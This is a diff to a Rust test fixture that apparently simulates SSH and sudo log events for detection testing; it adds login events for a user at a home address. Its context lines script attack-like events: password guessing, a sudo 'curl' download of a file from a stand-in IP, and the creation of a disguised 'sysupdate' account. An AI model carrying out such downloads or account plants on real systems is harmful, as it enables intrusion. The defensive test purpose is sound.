@@ -13,6 +13,7 @@ pub const KEYS: [(&str, &str); 3] = [
 ];
 
 const ALICE: Who<'_> = ("alice", KEYS[0].1, "203.0.113.20");
+const ALICE_AT_HOME: Who<'_> = ("alice", KEYS[0].1, "10.1.9.3");
 const BOB: Who<'_> = ("ec2-user", KEYS[1].1, "10.1.4.9");
 const BOB_AT_A_CAFE: Who<'_> = ("ec2-user", KEYS[1].1, "192.0.2.77");
 const CI: Who<'_> = ("deploy", KEYS[2].1, "10.1.0.5");
@@ -68,6 +69,7 @@ fn on_the_first_hosts(number: usize, logs: &[&Log]) {
             db.su("ec2-user");
         }
         6 => app.sudo("ssm-user", "/usr/bin/less /var/log/messages"),
+        7 => drop(db.login(ALICE)),
         8 => (0..6).for_each(|_| app.failed("backup", GUESSER)),
         9 => drop(app.login_by_password("backup", GUESSER)),
         10 => app.sudo_refused("backup", "/usr/bin/bash"),
@@ -75,7 +77,9 @@ fn on_the_first_hosts(number: usize, logs: &[&Log]) {
         13 => drop(app.login(NOBODY)),
         14 => app.sudo("ec2-user", "/usr/bin/curl -O http://198.51.100.23/x"),
         15 => app.user_added("sysupdate"),
+        16 => drop(app.login(ALICE_AT_HOME)),
         17 => drop(db.login(BOB_AT_A_CAFE)),
+        18 => app.failed("alice", ALICE_AT_HOME.2),
         19 => (0..4).for_each(|_| db.failed("postgres", GUESSER)),
         20 => db.unknown(),
         21 => db.sudo("ssm-user", "/usr/bin/psql -U postgres"),
